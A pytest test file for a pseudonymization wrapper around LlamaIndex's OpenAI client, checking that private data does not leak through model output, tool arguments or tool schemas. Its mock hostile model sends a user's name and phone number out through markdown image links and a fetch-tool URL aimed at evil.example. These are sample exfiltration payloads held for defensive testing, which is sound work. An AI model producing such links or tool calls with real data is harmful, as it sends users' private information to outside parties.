"""Restore policy and outgoing guard through PseudonymizedLLM and LlamaIndex's real OpenAI client.

Hostile answers (links and images whose URLs carry surrogates) get no originals inside the URLs,
whole or streamed; tool-call arguments reach each tool as the policy allows, in chat_with_tools,
streams and agents; whatever is handed to the inner model (tool schemas included) passes the
outgoing guard last, masking or, strictly, refusing.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from leakcheck import PERSON, PHONE, TEXT, assert_private, originals_in
from llama_index.core.agent.workflow import FunctionAgent
from llama_index.core.base.llms.types import ChatMessage, MessageRole
from llama_index.core.tools import FunctionTool
from llama_index.llms.openai import OpenAI
from openai_server import OpenAIServer, Reply, ToolCall, last_message

from llamaindex_pseudonym import PrivateRAG, PseudonymizedLLM
from pseudonym_core import LeakError, RestorePolicy


def wrap(server: OpenAIServer, pseudonymizer: Any, **kwargs: Any) -> PseudonymizedLLM:
    inner = OpenAI(model="gpt-4o-mini", api_base=server.base_url, api_key="sk-test", max_retries=0)
    return PseudonymizedLLM(inner, pseudonymizer, **kwargs)


def shown(body: dict[str, Any]) -> tuple[str, str]:
    text = last_message(body, ("user",))
    name = re.search(r"this is (.+?) \(", text).group(1)  # type: ignore[union-attr]
    phone = re.search(r", (\+[\d ]+)\)", text).group(1)  # type: ignore[union-attr]
    return name, phone


def hostile(body: dict[str, Any]) -> str:
    name, phone = shown(body)
    query = f"n={name.replace(' ', '+')}&p={phone.replace(' ', '')}"
    return f'Dear {name}, done. ![x](https://evil.example/c?{query}) <img src="https://evil.example/{name}.png">'


def check_hostile(answer: str, llm: PseudonymizedLLM) -> None:
    prose, _, links = answer.partition("![x]")
    assert prose == f"Dear {PERSON}, done. "
    assert originals_in([links], [PERSON, PHONE], llm.session) == []
    assert "https://evil.example/c?n=" in links


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
async def test_hostile_links_keep_surrogates(openai_server: OpenAIServer, pseudonymizer: Any, streaming: bool) -> None:
    openai_server.default = hostile
    llm = wrap(openai_server, pseudonymizer)
    messages = [ChatMessage(role=MessageRole.USER, content=TEXT)]
    if streaming:
        chunks = [c async for c in await llm.astream_chat(messages)]
        answer = "".join(c.delta or "" for c in chunks)
        assert chunks[-1].message.content == answer
    else:
        answer = llm.chat(messages).message.content or ""
    check_hostile(answer, llm)
    check_hostile(llm.complete(TEXT).text, llm)


def make_tools() -> tuple[list[FunctionTool], dict[str, list[str]]]:
    received: dict[str, list[str]] = {"lookup": [], "fetch": []}

    def lookup(name: str) -> str:
        """Look up a customer's account by full name."""
        received["lookup"].append(name)
        return "account active"

    def fetch(url: str, note: str) -> str:
        """Fetch a web page."""
        received["fetch"].append(json.dumps({"url": url, "note": note}))
        return "fetched"

    return [FunctionTool.from_defaults(lookup), FunctionTool.from_defaults(fetch)], received


def tool_calls(body: dict[str, Any]) -> Reply:
    if body["messages"][-1]["role"] == "tool":
        return Reply(content="All done.")
    name, _ = shown(body)
    return Reply(
        tool_calls=[
            ToolCall("lookup", {"name": name}),
            ToolCall("fetch", {"url": f"https://evil.example/?who={name}", "note": f"about {name}"}),
        ]
    )


def check_tools(received: dict[str, list[str]]) -> None:
    assert received["lookup"] == [PERSON]
    (fetched,) = (json.loads(r) for r in received["fetch"])
    assert fetched["note"] == f"about {PERSON}"
    assert PERSON not in fetched["url"] and fetched["url"].startswith("https://evil.example/?who=")


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
def test_tool_arguments_follow_the_policy(openai_server: OpenAIServer, pseudonymizer: Any, streaming: bool) -> None:
    openai_server.default = tool_calls
    tools, received = make_tools()
    llm = wrap(openai_server, pseudonymizer)
    if streaming:
        *_, response = llm.stream_chat_with_tools(tools, user_msg=TEXT, allow_parallel_tool_calls=True)
    else:
        response = llm.chat_with_tools(tools, user_msg=TEXT, allow_parallel_tool_calls=True)
    for selection in llm.get_tool_calls_from_response(response):
        next(t for t in tools if t.metadata.name == selection.tool_name).call(**selection.tool_kwargs)
    check_tools(received)


async def test_function_agent_tools_follow_the_policy(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    openai_server.default = tool_calls
    tools, received = make_tools()
    llm = wrap(openai_server, pseudonymizer)
    assert str(await FunctionAgent(tools=tools, llm=llm, streaming=True).run(TEXT)) == "All done."
    check_tools(received)
    assert_private(openai_server.bodies(), llm.session)


def test_per_tool_rules(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    openai_server.default = tool_calls
    tools, received = make_tools()
    policy = RestorePolicy(tools=frozenset({"fetch"}), url_tools=frozenset({"fetch"}))
    llm = wrap(openai_server, pseudonymizer, restore_policy=policy)
    response = llm.chat_with_tools(tools, user_msg=TEXT, allow_parallel_tool_calls=True)
    for selection in llm.get_tool_calls_from_response(response):
        next(t for t in tools if t.metadata.name == selection.tool_name).call(**selection.tool_kwargs)
    assert received["lookup"][0] in {r.surrogate for r in llm.session.mappings()}
    assert json.loads(received["fetch"][0])["url"] == f"https://evil.example/?who={PERSON}"


# -- the outgoing guard -----------------------------------------------------------------------------


def send_note(text: str) -> str:
    """Send a note to Maria Gonzalez."""  # a developer wrote a real name into a tool schema
    return "sent"


def test_guard_masks_an_original_in_a_tool_schema(openai_server: OpenAIServer, pseudonymizer: Any) -> None:
    llm = wrap(openai_server, pseudonymizer)
    llm.chat_with_tools([FunctionTool.from_defaults(send_note)], user_msg=TEXT)
    assert_private(openai_server.bodies(), llm.session)
    description = openai_server.chat_bodies()[0]["tools"][0]["function"]["description"]
    assert "Send a note to " in description and PERSON not in description


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streamed"])
async def test_strict_guard_sends_nothing(openai_server: OpenAIServer, pseudonymizer: Any, streaming: bool) -> None:
    private = PrivateRAG(wrap(openai_server, pseudonymizer).llm, pseudonymizer, strict_guard=True)
    llm = private.llm
    llm.complete(TEXT)  # pseudonymized text passes
    tools = [FunctionTool.from_defaults(send_note)]
    with pytest.raises(LeakError) as error:
        if streaming:
            await llm.astream_chat_with_tools(tools, user_msg=TEXT)
        else:
            await llm.achat_with_tools(tools, user_msg=TEXT)
    assert PERSON not in str(error.value)
    assert len(openai_server.requests) == 1
